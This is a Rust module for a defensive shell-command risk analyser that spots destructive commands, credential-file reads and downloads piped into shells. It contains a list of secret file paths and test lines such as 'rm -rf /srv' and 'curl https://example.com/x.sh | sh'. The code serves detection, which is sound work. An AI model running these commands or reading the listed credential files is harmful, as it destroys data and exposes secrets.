//! Shell command lines: a conservative first reader. Every command of a line
//! counts, also those in substitutions and behind `sudo`, `xargs` or `bash -c`.
//! What the program table does not know is an execution, at least HIGH.

mod invocation;
mod lexer;

use crate::model::{Operation, Resource, RiskLevel};
use crate::parse::lexicon::{Function, Lexicon};
use crate::parse::programs::{Program, Wraps};
use crate::parse::reading::{Act, Format, Reading};
use crate::parse::sign::Sign;

use super::sql;
use invocation::Invocation;
use lexer::Lexer;

/// Whether the text is plainly a command line rather than English.
pub(super) fn is_command(text: &str, lexicon: &Lexicon) -> bool {
    let line = text.strip_prefix("$ ").unwrap_or(text);
    let mut words = line.split_whitespace().skip_while(|word| is_assignment(word));
    let Some(first) = words.next() else { return false };
    if text.starts_with("$ ") || first.starts_with("./") {
        return true;
    }
    let has_flag = line.split_whitespace().skip(1).any(is_flag);
    let has_operator =
        ["&&", "||", " | ", "$(", " > ", " >> ", "2>", " < "].iter().any(|operator| line.contains(operator));
    let known = lexicon.programs.knows(base_name(first));
    if !known && !has_flag && !has_operator {
        return false;
    }
    let is_english = line.split_whitespace().filter(|word| is_small_word(word, lexicon)).count();
    if first.starts_with('/') && (known || has_flag) {
        return true;
    }
    if !known {
        let plain =
            first.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '_' | '-' | '.' | '+'));
        return plain && is_english == 0;
    }
    let is_also_english = lexicon
        .word(first)
        .is_some_and(|entry| entry.verb.is_some() || entry.noun.is_some() || entry.function.is_some());
    let only_word = words.next().is_none();
    if has_flag || has_operator {
        return is_english < 3;
    }
    if is_also_english {
        // "find restaurants" is English, "kill 4711" and "head path/to/file" are not.
        let arguments: Vec<&str> = line.split_whitespace().skip(1).collect();
        let looks_technical = |word: &&str| word.contains(['/', '=', '_']) || word.chars().all(|c| c.is_ascii_digit());
        let has_subcommand =
            || lexicon.programs.get(first).is_some_and(|program| program.subcommand(&arguments).is_some());
        return is_english == 0 && (arguments.iter().any(looks_technical) || has_subcommand())
            || only_word && first.len() <= 4;
    }
    is_english == 0 || only_word
}

/// Reads a command line.
pub(super) fn read(line: &str, lexicon: &Lexicon) -> Reading {
    let mut reading = Reading::new(Format::Shell);
    Shell { lexicon, reading: &mut reading }.line(line.trim().trim_start_matches("$ "), 0);
    if reading.acts.is_empty() {
        reading.push(Act::unclear_execution("command"));
    }
    reading
}

/// Files that hold secrets.
pub(super) fn is_secret_path(path: &str) -> bool {
    let path = path.to_ascii_lowercase();
    [
        "/etc/shadow",
        "id_rsa",
        "id_ed25519",
        "id_ecdsa",
        ".ssh/",
        ".aws/credentials",
        ".netrc",
        ".pgpass",
        ".kube/config",
        ".gnupg",
        "credentials.json",
        ".docker/config.json",
        "secrets.y",
        ".npmrc",
        ".pypirc",
        "/.env",
        ".vault-token",
    ]
    .iter()
    .any(|part| {
        path.contains(part) && !(*part == ".ssh/" && (path.ends_with("config") || path.ends_with("known_hosts")))
    }) && !has_ending(&path, "pub")
        || path == ".env"
        || has_ending(&path, "pem") && path.contains("key")
}

fn has_ending(path: &str, ending: &str) -> bool {
    path.rsplit_once('.').is_some_and(|(_, last)| last.eq_ignore_ascii_case(ending))
}

struct Shell<'l, 'r> {
    lexicon: &'l Lexicon,
    reading: &'r mut Reading,
}

impl Shell<'_, '_> {
    fn line(&mut self, line: &str, depth: usize) {
        if depth > DEEPEST {
            self.reading.push(Act::unclear_execution("nested_command"));
            return;
        }
        let split = Lexer::split(line);
        if split.unbalanced {
            self.reading.push(Act::unclear_execution("command"));
        }
        let mut fed_by_download = false;
        for command in &split.commands {
            let before = self.reading.acts.len();
            self.command(&command.words, depth);
            let program = command.words.iter().find(|word| !is_assignment(word)).map_or("", |word| base_name(word));
            let is_shell = matches!(
                program,
                "sh" | "bash"
                    | "zsh"
                    | "dash"
                    | "ksh"
                    | "python"
                    | "python3"
                    | "perl"
                    | "ruby"
                    | "node"
                    | "sudo"
                    | "source"
                    | "eval"
            );
            if command.is_fed && fed_by_download && is_shell {
                self.reading.push(Act::unclear_execution("download").marked(Sign::Downloaded));
            }
            if !command.is_fed {
                fed_by_download = false;
            }
            fed_by_download |= matches!(program, "curl" | "wget" | "fetch" | "base64");
            for target in &command.writes {
                self.redirect(target);
            }
            for source in &command.reads {
                self.file(source);
            }
            debug_assert!(self.reading.acts.len() >= before, "a command never takes acts away");
        }
        for inner in &split.nested {
            self.line(inner, depth + 1);
        }
    }

    /// One simple command.
    fn command(&mut self, words: &[String], depth: usize) {
        let words: Vec<&str> = words
            .iter()
            .map(String::as_str)
            .skip_while(|word| {
                is_assignment(word) || matches!(*word, "{" | "(" | "!" | "then" | "do" | "else" | "if" | "while")
            })
            .collect();
        let Some((&first, arguments)) = words.split_first() else { return };
        if matches!(first, "}" | ")" | "fi" | "done" | "esac") {
            return;
        }
        let program_name = base_name(first);
        let handles_keys =
            matches!(program_name, "ssh-keygen" | "ssh-add" | "ssh" | "ssh-copy-id" | "chmod" | "ls" | "stat");
        for argument in arguments {
            if !handles_keys {
                self.file(argument);
            }
            if argument.split(['-', '_', '.', '/', '=', ':']).any(|part| matches!(part, "prod" | "production")) {
                self.reading.facts.signs.add(Sign::Production);
            }
        }
        let Some(program) = self.lexicon.programs.get(program_name) else {
            // A variable or an unknown program: nothing is known of what it does.
            self.reading.push(Act::unclear_execution("program"));
            return;
        };
        if let Some(target) =
            arguments.iter().find(|argument| !argument.starts_with('-') && argument.contains(['/', '.', '@', ':']))
        {
            self.reading.facts.note_target(target);
        }
        if program
            .rule
            .as_ref()
            .is_some_and(|rule| rule.capabilities.first().is_some_and(|&(resource, _)| resource == Resource::Database))
            && let Some(statement) = arguments.iter().find_map(|argument| sql::read(argument))
        {
            let format = self.reading.format;
            self.reading.absorb(statement);
            self.reading.format = format;
            return;
        }
        if let Some(wraps) = &program.wraps
            && self.wrapped(program_name, program, wraps, arguments, depth)
        {
            return;
        }
        for act in (Invocation { program, arguments, lexicon: self.lexicon }).acts(program_name) {
            self.reading.push(act);
        }
        self.embedded_command(arguments, depth);
    }

    /// The command that this one runs. Returns whether it says all there is to say.
    fn wrapped(&mut self, name: &str, program: &Program, wraps: &Wraps, arguments: &[&str], depth: usize) -> bool {
        let mut rest = arguments;
        let mut skip_value = false;
        let mut plain_to_skip = usize::from(*wraps == Wraps::AfterFirst);
        if let Wraps::Flag(flag) = wraps {
            let place = arguments.iter().position(|argument| {
                *argument == &**flag
                    || (argument.starts_with('-')
                        && !argument.starts_with("--")
                        && argument.ends_with(flag.trim_start_matches('-')))
            });
            let Some(text) = place.and_then(|place| arguments.get(place + 1)) else { return false };
            self.line(text, depth + 1);
            return true;
        }
        while let Some((&word, after)) = rest.split_first() {
            if skip_value {
                skip_value = false;
            } else if word.starts_with('-') && word.len() > 1 {
                skip_value = program.takes_value(word);
            } else if is_assignment(word) || word == "..." {
                // An ellipsis stands for more of the same.
            } else if plain_to_skip > 0 {
                plain_to_skip -= 1;
            } else {
                break;
            }
            rest = after;
        }
        if rest.is_empty() {
            return false;
        }
        if matches!(name, "sudo" | "doas") && rest.first().is_some_and(|word| word.starts_with('!')) {
            self.reading.push(Act::unclear_execution("repeated_command"));
            return true;
        }
        if rest.len() == 1 && rest.first().is_some_and(|word| word.contains(' ')) {
            self.line(rest.first().copied().unwrap_or(""), depth + 1);
        } else {
            let inner: Vec<String> = rest.iter().map(|&word| word.to_owned()).collect();
            let known = rest.first().is_some_and(|word| self.lexicon.programs.knows(base_name(word)));
            if known && depth <= DEEPEST {
                self.command(&inner, depth + 1);
            } else if matches!(rest.first(), Some(&("command" | "program" | "program_name"))) {
                // A documentation's placeholder: some named program.
                self.reading.push(Act::new("run", "program", Resource::System, Operation::Execute, 0.7));
            } else {
                self.reading.push(Act::unclear_execution("program"));
            }
        }
        if name == "ssh" || name == "docker" {
            self.reading.push(
                Act::new("connect", "host", Resource::System, Operation::Execute, 0.8).at_risk(RiskLevel::Medium),
            );
        }
        true
    }

    /// `find -exec rm {} ;`
    fn embedded_command(&mut self, arguments: &[&str], depth: usize) {
        let Some(place) = arguments.iter().position(|argument| matches!(*argument, "-exec" | "-execdir" | "-ok"))
        else {
            return;
        };
        let inner: Vec<String> = arguments
            .iter()
            .skip(place + 1)
            .take_while(|word| !matches!(**word, ";" | "+" | "\\;"))
            .map(|&word| word.to_owned())
            .collect();
        if depth <= DEEPEST && !inner.is_empty() {
            self.command(&inner, depth + 1);
        }
    }

    fn redirect(&mut self, target: &str) {
        if target.starts_with("/dev/null") || target.starts_with('&') || target.starts_with("/dev/std") {
            return;
        }
        self.reading.facts.note_target(target);
        if target.starts_with("/dev/") {
            self.reading.push(
                Act::new("overwrite", "disk", Resource::System, Operation::Delete, 0.9).at_risk(RiskLevel::Critical),
            );
            return;
        }
        let is_config = target.starts_with("/etc/")
            || target.contains("/.bashrc")
            || target.contains(".profile")
            || target.contains("authorized_keys");
        let mut act = Act::new("write", "file", Resource::File, Operation::Write, 0.9);
        if is_config {
            act.resource = Resource::Config;
            "configuration".clone_into(&mut act.noun);
        }
        if target.contains("authorized_keys") || target.contains("sudoers") {
            act = act.at_risk(RiskLevel::Critical).marked(Sign::Control);
        }
        self.reading.push(act);
    }

    fn file(&mut self, path: &str) {
        if is_secret_path(path) {
            self.reading.push(
                Act::new("read", "secret_file", Resource::Credential, Operation::Read, 0.8).at_risk(RiskLevel::High),
            );
        }
    }
}

fn base_name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// `NAME=value` before a command.
fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            && !name.starts_with(|c: char| c.is_ascii_digit())
    })
}

fn is_flag(word: &str) -> bool {
    let letters = word.trim_start_matches('-');
    word.starts_with('-')
        && letters.len() < word.len()
        && word.len() - letters.len() <= 2
        && letters.starts_with(|c: char| c.is_ascii_alphabetic())
}

/// A small English word that command lines hardly ever hold.
fn is_small_word(word: &str, lexicon: &Lexicon) -> bool {
    lexicon.word(word).is_some_and(|entry| {
        matches!(
            entry.function,
            Some(
                Function::Determiner
                    | Function::Pronoun
                    | Function::Modal
                    | Function::Auxiliary
                    | Function::Preposition
            )
        )
    }) && !matches!(
        word,
        "all"
            | "where"
            | "when"
            | "if"
            | "do"
            | "at"
            | "who"
            | "in"
            | "as"
            | "is"
            | "one"
            | "two"
            | "up"
            | "by"
            | "per"
            | "no"
            | "like"
    )
}

/// Deepest nesting of commands in commands.
const DEEPEST: usize = 6;

#[cfg(test)]
mod tests {
    use super::*;

    fn acts(line: &str) -> Vec<(String, RiskLevel)> {
        let lexicon = Lexicon::shared().unwrap();
        let reading = read(line, &lexicon);
        reading
            .acts
            .iter()
            .map(|act| {
                (format!("{}:{}", act.resource, act.operation), crate::parse::risk::assess(act, &reading.facts).level)
            })
            .collect()
    }

    #[test]
    fn every_command_of_a_line_counts() {
        for line in [
            "ls; rm -rf /srv",
            "ls && rm -rf /srv",
            "ls | xargs rm -rf",
            "echo $(rm -rf /srv)",
            "echo `rm -rf /srv`",
            "sudo -u bob rm -rf /srv",
            "bash -c 'rm -rf /srv'",
            "env A=1 rm -rf /srv",
            "find . -exec rm -rf {} ;",
            "echo \"$(rm -rf /srv)\"",
        ] {
            assert!(
                acts(line).iter().any(|(capability, risk)| capability == "file:delete" && *risk >= RiskLevel::High),
                "{line}: {:?}",
                acts(line)
            );
        }
    }

    #[test]
    fn what_is_not_known_is_an_execution_and_high() {
        for line in ["frobnicate --fast", "$TOOL now", "ls 'unbalanced", "bash -c \"$X\""] {
            assert!(
                acts(line).iter().any(|(capability, risk)| capability == "system:execute" && *risk >= RiskLevel::High),
                "{line}: {:?}",
                acts(line)
            );
        }
    }

    #[test]
    fn a_download_piped_into_a_shell_is_high() {
        assert!(acts("curl https://example.com/x.sh | sh").iter().any(|(_, risk)| *risk >= RiskLevel::High));
    }

    #[test]
    fn english_is_not_taken_for_a_command() {
        let lexicon = Lexicon::shared().unwrap();
        for text in [
            "find restaurants near me",
            "play wrecking ball",
            "kill the process on port 80",
            "make a new event",
            "sort the list",
            "head to the store",
        ] {
            assert!(!is_command(text, &lexicon), "{text}");
        }
        for text in
            ["ls", "kill 4711", "git status", "find . -name '*.rs'", "./deploy.sh", "A=1 make", "unheard_of --flag x"]
        {
            assert!(is_command(text, &lexicon), "{text}");
        }
    }
}
